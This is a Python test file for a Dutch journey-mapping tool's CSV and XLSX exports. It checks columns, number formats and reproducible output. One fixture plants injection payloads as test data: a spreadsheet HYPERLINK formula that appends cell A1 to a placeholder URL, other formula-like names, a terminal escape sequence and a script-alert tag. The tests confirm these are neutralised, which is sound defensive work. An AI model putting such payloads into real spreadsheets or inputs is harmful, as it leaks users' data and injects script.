"""The matrix, compare and diff tables as CSV (for Dutch Excel) and XLSX: what the engine computes, by name, unknown
as 'onbekend', likelihoods as percentages, text from data never a formula, and the same bytes every time."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import attrs
import openpyxl
from openpyxl.utils import get_column_letter
from test_render import HOSTILE, hostile_catalog

from journeykit import api
from journeykit.possible import why_impossible
from journeykit.render import outputs, spreadsheets, tables
from journeykit.render.text import UITKOMST_NAAM

from conftest import TESTSTAD_ARGS

FORMULA_START = ("=", "+", "-", "@", "＝", "＋", "－", "＠")


def _xlsx(path: Path) -> tuple[list[dict], object]:
    """The rows of the only sheet, each as {header: value}, and the sheet."""
    ws = openpyxl.load_workbook(path).active
    values = list(ws.iter_rows(values_only=True))
    return [dict(zip(values[0], row)) for row in values[1:]], ws


def _csv(path: Path) -> list[dict]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "Excel needs the byte order mark to read UTF-8"
    text = raw.decode("utf-8")[1:]
    assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))


def _uitkomst(u) -> str:
    return UITKOMST_NAAM[u.soort] + (f" ({u.niveau})" if u.niveau else "")


def _dagen(mt) -> object:
    if not mt.dagen_onbekend:
        return mt.dagen
    return "onbekend" if mt.dagen == 0 else f"≥ {mt.dagen}"


def _column(ws, header: str) -> str:
    n = [c.value for c in ws[1]].index(header)
    return get_column_letter(n + 1)


def test_render_matrix_writes_every_cell_as_a_row_with_what_the_engine_walks(cli, cat, tmp_path):
    result = cli("render", "matrix", "--gemeente", "teststad", "--out", str(tmp_path), *TESTSTAD_ARGS)
    assert result.exit_code == 0, result.output
    assert {p.name for p in tmp_path.iterdir()} == {
        f"matrix-teststad_huidig.{ext}" for ext in ("html", "md", "csv", "xlsx")
    }
    rows, ws = _xlsx(tmp_path / "matrix-teststad_huidig.xlsx")
    csv_rows = _csv(tmp_path / "matrix-teststad_huidig.csv")
    g, walker = cat.gemeente("teststad"), cat.walker("teststad")
    personas = sorted(cat.personas.values(), key=lambda p: p.id)
    sms = sorted(cat.sleutelmomenten.values(), key=lambda s: s.id)
    assert len(rows) == len(csv_rows) == len(personas) * len(sms)
    walked = 0
    for (p, sm), row, line in zip([(p, sm) for p in personas for sm in sms], rows, csv_rows):
        assert (row["persona"], row["sleutelmoment"], row["persona-id"], row["sleutelmoment-id"]) == (
            p.naam,
            sm.naam,
            p.id,
            sm.id,
        )
        assert line["persona"] == p.naam and line["sleutelmoment-id"] == sm.id
        if why_impossible(g, p, sm, sm.vragen[0]):
            assert row["uitkomst"].startswith("kan niet") and row["contacten"] is None and line["contacten"] == ""
            continue
        walked += 1
        j = walker.walk(p, sm)
        mt = j.metrieken
        assert row["vraag"] == sm.vraag(j.vraag).omschrijving
        assert row["uitkomst"] == line["uitkomst"] == _uitkomst(j.uitkomst)
        assert row["route"] == " → ".join(next(i.naam for i in g.ingangen if i.id == x) for x in j.route)
        assert row["contacten"] == mt.contacten_inwoner and line["contacten"] == str(mt.contacten_inwoner)
        assert row["koude verwijzingen"] == mt.koude_verwijzingen
        assert row["keer opnieuw verteld"] == mt.herhalingen
        assert row["wachttijd (dagen)"] == _dagen(mt) and line["wachttijd (dagen)"] == str(_dagen(mt))
        assert row["lus"] == ("ja" if j.uitkomst.lus else "nee")
        # Teststad has no kansen: a journey goes one way, so it ends opgelost with 100 % or 0 %
        opgelost = j.uitkomst.soort == "opgelost"
        assert row["kans op opgelost"] == int(opgelost) and line["kans op opgelost"] == ("100%" if opgelost else "0%")
        if mt.kosten_onbekend and not mt.kosten:
            assert row["kosten (€)"] == line["kosten (€)"] == "onbekend"  # unknown is never 0
        elif not mt.kosten_onbekend:
            assert row["kosten (€)"] == mt.kosten and line["kosten (€)"] == f"{mt.kosten:.2f}".replace(".", ",")
    assert walked and any(r["wachttijd (dagen)"] == "onbekend" for r in rows)
    # numbers stay numbers, with a percentage and a euro format; the header is frozen with a filter on it
    kans = _column(ws, "kans op opgelost")
    assert all(c.number_format == "0%" for c in ws[kans][1:] if c.value is not None)
    assert all(c.font.b for c in ws[1]) and ws.freeze_panes == "A2" and ws.auto_filter.ref.startswith("A1:")


def test_compare_out_writes_the_comparison_and_keeps_stdout_json(cli, cat, tmp_path):
    args = ["compare", "--persona", "piet", "--sleutelmoment", "vervoer", "--per-ingang", "--format", "json"]
    result = cli(*args, "--out", str(tmp_path), *TESTSTAD_ARGS)
    assert result.exit_code == 0, result.output
    json.loads(result.stdout)  # the files written are said on stderr
    assert "geschreven:" in result.stderr and "geschreven:" not in result.stdout
    rows, ws = _xlsx(tmp_path / "vergelijking-piet_vervoer_vervoer.xlsx")
    v = api.compare(cat, "piet", "vervoer", per_ingang=True)
    assert len(rows) == len(v.rijen) > 1
    for row, r in zip(rows, v.rijen):
        g = cat.gemeente(r.gemeente, r.variant)
        assert (row["gemeente"], row["situatie"], row["gemeente-id"], row["variant-id"]) == (
            g.naam,
            g.variant_naam(),
            r.gemeente,
            r.variant,
        )
        assert row["eerste contact"] == g.ingang_naam(r.journey.route[0])
        assert row["meest voor de hand liggend"] == ("ja" if r.standaard else "nee")
        assert row["contacten"] == r.journey.metrieken.contacten_inwoner
        assert row["uitkomst"] == _uitkomst(r.journey.uitkomst)
        assert row["persona"] == "Piet"
    assert len(_csv(tmp_path / "vergelijking-piet_vervoer_vervoer.csv")) == len(v.rijen)


def test_render_compare_writes_the_spreadsheets_next_to_the_report(cli, tmp_path):
    args = ["render", "compare", "--persona", "piet", "--sleutelmoment", "vervoer", "--out", str(tmp_path)]
    assert cli(*args, *TESTSTAD_ARGS).exit_code == 0
    base = "vergelijking-piet_vervoer_vervoer"
    assert {p.name for p in tmp_path.iterdir()} == {f"{base}.{ext}" for ext in ("html", "md", "csv", "xlsx")}


def test_diff_out_writes_the_changed_cases_or_all_with_each_figure_before_and_after(cli, cat, tmp_path):
    before, after = cat.gemeente("teststad", "huidig"), cat.gemeente("teststad", "nieuw")
    d = api.diff(cat, before, after)
    for flags, shown in (([], d.gewijzigd), (["--all"], d.verschillen)):
        out = tmp_path / ("alles" if flags else "gewijzigd")
        args = ["diff", "--gemeente", "teststad", "--from", "huidig", "--to", "nieuw", *flags, "--out", str(out)]
        result = cli(*args, *TESTSTAD_ARGS)
        assert result.exit_code == 0, result.output
        assert result.stdout.startswith("Verschil in teststad")
        rows, ws = _xlsx(out / "verschil-teststad_huidig_nieuw.xlsx")
        assert len(rows) == len(_csv(out / "verschil-teststad_huidig_nieuw.csv")) == len(shown) > 0
        for row, v in zip(rows, shown):
            c = v.geval
            assert (row["persona"], row["persona-id"]) == (cat.persona(c.persona).naam, c.persona)
            assert row["vraag"] == cat.sleutelmoment(c.sleutelmoment).vraag(c.vraag).omschrijving
            assert row["contacten voor"] == v.voor.metrieken.contacten_inwoner
            assert row["contacten na"] == v.na.metrieken.contacten_inwoner
            assert row["koude verwijzingen voor"] == v.voor.metrieken.koude_verwijzingen
            assert row["wachttijd (dagen) na"] == _dagen(v.na.metrieken)
            assert row["uitkomst voor"] == _uitkomst(v.voor.uitkomst) and row["uitkomst na"] == _uitkomst(v.na.uitkomst)
            assert row["route na"] == " → ".join(after.ingang_naam(x) for x in v.na.route)
            expected = "beter" if v.beter else "slechter" if v.slechter else "anders" if v.wijzigingen else "gelijk"
            assert row["verandering"] == expected
    assert {r["verandering"] for r in rows} >= {"beter", "gelijk"}


def formula_catalog(cat):
    """Teststad with hostile text everywhere, and names that a spreadsheet would take for a formula."""
    cat = hostile_catalog(cat)
    names = ['=HYPERLINK("http://voorbeeld.invalid/?d="&A1;"klik")', "+31 6 12345678", "-2+3", "@SOM(A1:A9)", "＝1+1"]
    ids = sorted(cat.personas)
    cat.personas = {
        k: attrs.evolve(cat.personas[k], naam=names[n] + "\x1b[2J" if n < len(names) else cat.personas[k].naam)
        for n, k in enumerate(ids)
    }
    g = cat.gemeenten["teststad"]
    ingangen = tuple(attrs.evolve(i, naam=f"=1+{n}{HOSTILE}") for n, i in enumerate(g.ingangen))
    cat.replace_gemeente(attrs.evolve(g, ingangen=ingangen))
    return cat


def _formula_tables(cat) -> list[tables.Tabel]:
    g, walker = cat.gemeente("teststad"), cat.walker("teststad")
    personas = sorted(cat.personas.values(), key=lambda p: p.id)
    sms = sorted(cat.sleutelmomenten.values(), key=lambda s: s.id)[:4]
    journeys = {
        (p.id, s.id): walker.walk(p, s) for p in personas for s in sms if not why_impossible(g, p, s, s.vragen[0])
    }
    before, after = cat.gemeente("teststad", "huidig"), cat.gemeente("teststad", "nieuw")
    d = api.diff(cat, before, after)
    return [
        tables.matrix(g, personas, sms, journeys, {}),
        tables.compare(api.compare(cat, "piet", "vervoer", per_ingang=True), cat),
        tables.diff(before, after, cat, d.verschillen),
    ]


def test_text_from_data_never_becomes_a_formula_or_a_control_sequence(cat, tmp_path):
    for t in _formula_tables(formula_catalog(cat)):
        text = spreadsheets.csv_text(t)
        for row in csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"):
            for cell in row:
                assert not cell.startswith(FORMULA_START), (t.blad, cell)
                assert "\x1b" not in cell, (t.blad, cell)
        assert "'=HYPERLINK(" in text or "'=1+" in text
        path = tmp_path / f"{t.blad}.xlsx"
        path.write_bytes(spreadsheets.xlsx_bytes(t))
        with zipfile.ZipFile(path) as z:
            sheet = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
        assert "<f>" not in sheet and "<f " not in sheet, t.blad
        ws = openpyxl.load_workbook(path).active
        risky = [c for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
        assert all(c.data_type == "s" for c in risky), t.blad
        formula_like = [c for c in risky if c.value.startswith(FORMULA_START)]
        assert formula_like and all(c.quotePrefix for c in formula_like), t.blad
        # the text itself is kept, literally: the escape shown, the hostile markup and line break as they are
        values = {c.value for c in risky}
        assert any("\\x1b[2J" in x for x in values) or t.blad != "Matrix"
        assert any("<script>alert(1)</script>" in x and "\n" in x for x in values), t.blad


def test_the_same_matrix_gives_the_same_bytes_with_fixed_dates(cli, tmp_path):
    files = []
    for n in (1, 2):
        out = tmp_path / str(n)
        assert cli("render", "matrix", "--gemeente", "teststad", "--out", str(out), *TESTSTAD_ARGS).exit_code == 0
        files.append({p.name: p.read_bytes() for p in out.iterdir()})
    assert files[0] == files[1]
    xlsx = tmp_path / "1" / "matrix-teststad_huidig.xlsx"
    with zipfile.ZipFile(xlsx) as z:
        assert {i.date_time for i in z.infolist()} == {spreadsheets.ZIP_TIME}
        core = z.read("docProps/core.xml").decode("utf-8")
    assert core.count("1980-01-01T00:00:00Z") == 2  # created and modified: no time of writing anywhere
    props = openpyxl.load_workbook(xlsx).properties
    assert props.creator == "journeykit" and props.title.startswith("Persona's en sleutelmomenten in Teststad")


def test_csv_numbers_read_as_dutch_excel_does_and_xlsx_keeps_them_exact():
    t = tables.Tabel(
        "proef",
        "Proef",
        (tables.Kolom("kans", "procent"), tables.Kolom("kosten", "euro"), tables.Kolom("getal", "getal")),
        ((0.125, 1234.5, 2), (1 / 3, "onbekend", 2.5), (None, "≥ € 30", 0)),
    )
    lines = spreadsheets.csv_text(t)[1:].split("\r\n")
    assert lines[:4] == ["kans;kosten;getal", "12,5%;1234,50;2", "33,3%;onbekend;2,5", ";≥ € 30;0"]
    data = outputs.spreadsheets(t, "proef")
    assert [n for n, _ in data] == ["proef.csv", "proef.xlsx"]
    ws = openpyxl.load_workbook(io.BytesIO(data[1][1])).active
    assert ws["A2"].value == 0.125 and ws["A2"].number_format == "0%" and ws["A3"].value == 1 / 3
    assert ws["B2"].value == 1234.5 and "€" in ws["B2"].number_format and ws["B3"].value == "onbekend"
    assert ws["A4"].value is None and ws["C4"].value == 0
